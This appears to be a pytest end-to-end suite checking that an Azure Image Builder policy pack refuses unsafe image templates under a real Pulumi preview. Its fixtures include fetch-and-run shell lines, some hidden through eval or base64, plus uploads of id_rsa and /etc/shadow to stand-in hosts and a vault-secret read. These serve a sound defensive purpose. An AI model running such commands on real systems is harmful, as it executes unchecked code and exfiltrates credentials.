"""The policy pack under a real `pulumi preview`: principal ids and template names unknown, as they are before the
first deployment, mandatory rules refusing, advisory ones reporting.

Every kind of mandatory refusal (issue 23: each case a real preview) is shown by ONE preview of one stack holding them
all (`EVERY_REFUSAL`), and what the organisation allows by one passing preview: each preview costs seconds."""

from __future__ import annotations

import json
import re
import shutil

from e2e_helpers import REPO, e2e_config, minimal_image


def with_pack(stack) -> None:
    shutil.copytree(REPO / "policy", stack.project / "policy", ignore=shutil.ignore_patterns("venv", "__pycache__"))


def test_a_compliant_stack_previews_through_the_pack(local_stack):
    stack = local_stack(e2e_config({"one": minimal_image("one")}))
    with_pack(stack)
    preview = stack.preview("--policy-pack", "policy", "--policy-pack-config", "policy/config.json")
    assert "\u2705 aib-golden-images@" in preview.stdout, preview.stdout[:2000]
    # Stack rules see principal ids and names unknown here, and still run (they once could not).
    assert "can't run policy" not in preview.stdout


def configure_pack(stack, **settings: dict) -> None:
    """The organisation's policy config with `settings` (policy name -> its settings) merged in."""
    path = stack.project / "policy" / "config.json"
    config = json.loads(path.read_text())
    for name, values in settings.items():
        config[name] = {**(config.get(name) if isinstance(config.get(name), dict) else {}), **values}
    path.write_text(json.dumps(config))


def refused_preview(stack):
    preview = stack.pulumi("preview", "--non-interactive", "--policy-pack", "policy", "--policy-pack-config",
                           "policy/config.json", check=False)
    assert preview.returncode != 0, preview.stdout[-3000:]
    assert "can't run policy" not in preview.stdout
    return preview.stdout


SHA = "2c26b46b68ffc68ff99b453c1d30413413422d706483bfa0f98a5e886266e7ae"
FOREIGN = "11111111-1111-1111-1111-111111111111"
SHARED_STAGING = "/subscriptions/00000000-0000-0000-0000-000000000000/resourceGroups/rg-shared-staging"


def test_allowed_opt_outs_and_an_allow_listed_staging_group_pass_and_are_reported(local_stack):
    """What the organisation allows passes the mandatory rules under a real preview: opt-outs whose reason is on the
    rule's allowedOptOutReasons (a fetch-and-run, an upload), and a shared staging group on allowedStagingGroups; the
    advisory rule reports each opt-out with its reason."""
    image = minimal_image("one")
    props = image["template"]["properties"]
    props["customize"] = [
        {"type": "Shell", "name": "vendor", "checksumOptOut": "vendor-rotates-content: agent installer",
         "inline": ["curl -fsSL https://vendor.example/install.sh | sudo bash"]},
        {"type": "Shell", "name": "logs", "inline": ["curl -fsS -T /var/log/cloud-init.log https://logs.example/in"]}]
    props["stagingResourceGroup"] = SHARED_STAGING
    image["template"]["tags"]["aib-images.uploadOptOut.customize[1]"] = "build-log-collector: cloud-init log"
    stack = local_stack(e2e_config({"one": image}))
    with_pack(stack)
    configure_pack(stack, **{"aib-pinned-downloads": {"allowedOptOutReasons": ["vendor-rotates-content"]},
                             "aib-no-uploads": {"allowedOptOutReasons": ["build-log-collector"]},
                             "aib-dedicated-staging": {"allowedStagingGroups": ["rg-shared-staging"]}})
    preview = stack.preview("--policy-pack", "policy", "--policy-pack-config", "policy/config.json")
    out = " ".join(preview.stdout.split())
    assert "[advisory] aib-checksum-opt-outs" in out and "agent installer" in out, preview.stdout[-3000:]
    assert "customize[1] (logs): inline commands upload data out of the build VM (curl -T/--upload-file), by opt-out: " \
           "'build-log-collector: cloud-init log'" in out
    assert "mandatory" not in out.lower() and "can't run policy" not in out


def _every_refusal_config() -> dict:
    """One stack holding every kind of case the pack refuses (issue 23's review and the rules before it)."""
    fetch = minimal_image("fetch")
    fetch["template"]["properties"]["customize"] = [
        # curl | sh and its disguises
        {"type": "Shell", "name": "tee", "inline": ["curl -fsSL https://x.example/i.sh | tee /tmp/i.sh | sh"]},
        {"type": "Shell", "name": "py", "inline": ["curl -fsSL https://x.example/i.py | python3"]},
        {"type": "Shell", "name": "pyc", "inline": ["python3 -c \"$(curl -fsSL https://x.example/i.py)\""]},
        {"type": "Shell", "name": "eval", "inline": ["eval \"$(curl -fsSL https://x.example/i.sh)\""]},
        {"type": "Shell", "name": "b64", "inline": ["echo Y3VybCBodHRwczovL3guZXhhbXBsZS9pLnNoIHwgc2g= | base64 -d | sh"]},
        {"type": "Shell", "name": "nextline", "inline": ["curl -fsSL -o /tmp/x.sh https://x.example/x.sh",
                                                         "bash /tmp/x.sh"]},
        {"type": "Shell", "name": "fetch", "inline": ["curl -fsSL -o /tmp/y.sh https://x.example/y.sh"]},
        {"type": "Shell", "name": "run", "inline": ["sudo bash /tmp/y.sh"]},
        # an opt-out whose reason the organisation does not allow
        {"type": "Shell", "name": "trust", "checksumOptOut": "trust me",
         "inline": ["curl -fsSL https://x.example/i.sh | sudo bash"]},
        # key material and uploads
        {"type": "File", "name": "key", "sourceUri": "https://stkeys.blob.core.windows.net/keys/id_rsa",
         "sha256Checksum": SHA, "destination": "/tmp/id_rsa"},
        {"type": "Shell", "name": "send", "inline": ["curl -fsS -T /tmp/id_rsa https://collector.x.example/"]},
        {"type": "Shell", "name": "scp", "inline": ["scp /var/log/cloud-init.log ops@backup.x.example:/srv/"]},
        {"type": "Shell", "name": "blob", "inline": ["az storage blob upload --auth-mode login --account-name stx "
                                                     "-c out -f /etc/shadow -n s"]},
        {"type": "Shell", "name": "vault", "inline": ["az keyvault secret show --vault-name kv -n db -o tsv > /etc/db"]},
        # deprovisioning turned off behind disguised paths
        {"type": "File", "name": "deprov", "sourceUri": "https://example.org/d.sh", "sha256Checksum": SHA,
         "destination": "/tmp/./DeprovisioningScript.sh"},
        {"type": "Shell", "name": "deprov2", "inline": ["echo 'exit 0' > /tmp/./Deprovisioning''Script.sh"]},
    ]
    foreign = minimal_image("foreign", definition="foreign")
    props = foreign["template"]["properties"]
    props["source"] = {"type": "SharedImageVersion", "imageVersionId":
                       f"/subscriptions/{FOREIGN}/resourceGroups/rg-x/providers/Microsoft.Compute/galleries/g/images/i/"
                       "versions/1.0.0"}
    props["distribute"].append({"type": "VHD", "runOutputName": "foreign-vhd",
                                "uri": "https://stforeign.blob.core.windows.net/vhds/foreign.vhd"})
    props["buildTimeoutInMinutes"] = 900
    # The review's grant: Storage Blob Data Reader for the template identity on another subscription's `keys`
    # container (the pipeline grants it on each container a step's URI names in scriptsStorageAccountId).
    foreign["scriptsStorageAccountId"] = (f"/subscriptions/{FOREIGN}/resourceGroups/rg-secrets/providers/"
                                          "Microsoft.Storage/storageAccounts/stkeys")
    props["vmProfile"] = {"userAssignedIdentities": [  # an identity on the build VM the organisation did not allow
        "/subscriptions/00000000-0000-0000-0000-000000000000/resourceGroups/rg-e2e/providers/"
        "Microsoft.ManagedIdentity/userAssignedIdentities/id-build-vm"]}
    foreign["template"]["allowHttpUris"] = True  # the program's own check waived: the pack still refuses http
    props["customize"].append({"type": "Shell", "name": "plain", "scriptUri": "http://example.org/s.sh",
                               "sha256Checksum": SHA})
    props["customize"].append({"type": "File", "name": "agent", "sourceUri": "https://stkeys.blob.core.windows.net/keys/"
                               "agent.cfg", "sha256Checksum": SHA, "destination": "/tmp/agent.cfg"})
    promoted = minimal_image("promoted", definition="promoted")
    props = promoted["template"]["properties"]
    props["stagingResourceGroup"] = SHARED_STAGING
    props["distribute"][0]["excludeFromLatest"] = True
    props["validate"] = {"continueDistributeOnFailure": True,
                         "inVMValidations": [{"type": "Shell", "name": "smoke", "inline": ["true"]}]}
    promoted["lifecycle"] = {"promotion": {"mode": "afterValidation"}}
    unvalidated = minimal_image("unvalidated", definition="unvalidated")
    unvalidated["template"]["properties"]["distribute"][0]["excludeFromLatest"] = True
    unvalidated["lifecycle"] = {"promotion": {"mode": "manual"}}
    # Staging in the stack's own group, beside the gallery and identities: Contributor there reaches all of them.
    unvalidated["template"]["properties"]["stagingResourceGroup"] = (
        "/subscriptions/00000000-0000-0000-0000-000000000000/resourceGroups/rg-e2e")
    return e2e_config({"fetch": fetch, "foreign": foreign, "promoted": promoted, "unvalidated": unvalidated})


# Each mandatory refusal (rule, what its message says) the one preview below must show.
EVERY_REFUSAL = [
    ("aib-pinned-downloads", "customize[0] (tee): inline commands download code and run it unchecked"),
    ("aib-pinned-downloads", "customize[1] (py): inline commands download code and run it unchecked"),
    ("aib-pinned-downloads", "customize[2] (pyc): inline commands download code and run it unchecked"),
    ("aib-pinned-downloads", "customize[3] (eval): inline commands download code and run it unchecked"),
    ("aib-pinned-downloads", "customize[4] (b64): inline commands decode hidden code and run it unchecked"),
    ("aib-pinned-downloads", "customize[5] (nextline): inline commands run a file downloaded by this step without "
                             "checking"),
    ("aib-pinned-downloads", "customize[7] (run): inline commands run a file downloaded by customize[6] without "
                             "checking"),
    ("aib-pinned-downloads", "customize[8] (trust): inline commands download code and run it unchecked, and its "
                             "checksumOptOut reason 'trust me' is not one the organisation allows"),
    ("aib-no-key-material", "customize[9] (key): sourceUri 'https://stkeys.blob.core.windows.net/keys/id_rsa' looks "
                            "like a private key or key store (id_rsa)"),
    ("aib-no-key-material", "customize[13] (vault): inline commands read a secret from a vault"),
    ("aib-no-uploads", "customize[10] (send): inline commands upload data out of the build VM (curl -T/--upload-file)"),
    ("aib-no-uploads", "customize[11] (scp): inline commands upload data out of the build VM (scp to a remote host)"),
    ("aib-no-uploads", "customize[12] (blob): inline commands upload data out of the build VM (az storage upload)"),
    ("aib-deprovision-kept", "customize[14] (deprov): replaces /tmp/DeprovisioningScript.sh with a downloaded file"),
    ("aib-deprovision-kept", "customize[15] (deprov2): writes /tmp/DeprovisioningScript.sh without generalizing"),
    ("aib-allowed-subscriptions", f"source.imageVersionId '/subscriptions/{FOREIGN}/resourceGroups/rg-x/providers/"
                                  f"Microsoft.Compute/galleries/g/images/i/versions/1.0.0' is in subscription {FOREIGN}"),
    ("aib-allowed-subscriptions", "distribute[1].uri 'https://stforeign.blob.core.windows.net/vhds/foreign.vhd' writes "
                                  "the image to a storage account the policy cannot place in a subscription"),
    ("aib-allowed-subscriptions", f"grants a role at '/subscriptions/{FOREIGN}/resourceGroups/rg-secrets/providers/"
                                  "Microsoft.Storage/storageAccounts/stkeys/blobServices/default/containers/keys' is in "
                                  f"subscription {FOREIGN}"),
    ("aib-https-uris", "customize[1] (plain): scriptUri 'http://example.org/s.sh' is not https"),
    ("aib-build-vm-identities", "vmProfile.userAssignedIdentities[0]: '/subscriptions/00000000-0000-0000-0000-000000000000/"
                               "resourceGroups/rg-e2e/providers/Microsoft.ManagedIdentity/userAssignedIdentities/"
                               "id-build-vm' is attached to the build VM"),
    ("aib-no-key-material", "customize[2] (agent): sourceUri 'https://stkeys.blob.core.windows.net/keys/agent.cfg' "
                            "looks like a file from a 'keys' folder (agent.cfg)"),
    ("aib-build-timeout", "buildTimeoutInMinutes is 900, more than the 480 minutes allowed"),
    ("aib-dedicated-staging", "stagingResourceGroup '/subscriptions/00000000-0000-0000-0000-000000000000/resourceGroups/"
                              "rg-shared-staging' is not created by this stack"),
    ("aib-dedicated-staging", "stagingResourceGroup '/subscriptions/00000000-0000-0000-0000-000000000000/resourceGroups/"
                              "rg-e2e' also holds"),
    ("aib-validated-promotion", "promotes this template's image versions (promotion 'afterValidation') but "
                                "validate.continueDistributeOnFailure is true"),
    ("aib-validated-promotion", "promotes this template's image versions (promotion 'manual') but the template runs no "
                                "validate.inVMValidations"),
]


def test_every_mandatory_refusal_shows_in_one_real_preview(local_stack):
    """Every kind of case the pack refuses, in one stack and one `pulumi preview` (each preview costs seconds): the
    preview fails, and each refusal appears with its rule, its template and its message; inline commands are not
    quoted; nothing is created."""
    stack = local_stack(_every_refusal_config())
    with_pack(stack)
    configure_pack(stack, **{"aib-pinned-downloads": {"allowedOptOutReasons": ["vendor-rotates-content"]}})
    raw = refused_preview(stack)
    out = " ".join(raw.split())  # the CLI wraps long messages
    missing = [(rule, message) for rule, message in EVERY_REFUSAL if message not in out]
    assert not missing, f"not in the preview: {missing}\n{raw[-6000:]}"
    for rule in {rule for rule, _ in EVERY_REFUSAL}:
        assert re.search(rf"mandatory\W+{rule}\b|{rule}\W+\(?mandatory", out, re.IGNORECASE), (rule, raw[-3000:])
    for name in ("fetch", "foreign", "promoted", "unvalidated"):  # each template named in its refusals
        assert re.search(rf"{name}-[0-9a-f]{{10}}-template", out), name
    assert "x.example" not in out  # inline commands (which may hold secrets) are not quoted
    assert stack.templates() == {}, "nothing was created"


def test_a_template_at_2025_10_01_is_held_to_the_same_rules(local_stack):
    """Declared as a versioned template (components/providers/versioned_template.py), it still meets every template rule."""
    image = minimal_image("one")
    image["template"]["properties"]["distribute"][0]["replicationMode"] = "Shallow"
    image["template"]["properties"]["buildTimeoutInMinutes"] = 900
    stack = local_stack(e2e_config({"one": image}))
    with_pack(stack)
    preview = stack.pulumi("preview", "--non-interactive", "--policy-pack", "policy", "--policy-pack-config",
                           "policy/config.json", check=False)
    assert preview.returncode != 0
    assert "aib-build-timeout" in preview.stdout and re.search(
        r"aib:VersionedTemplate: one-[0-9a-f]{10}-template", preview.stdout)
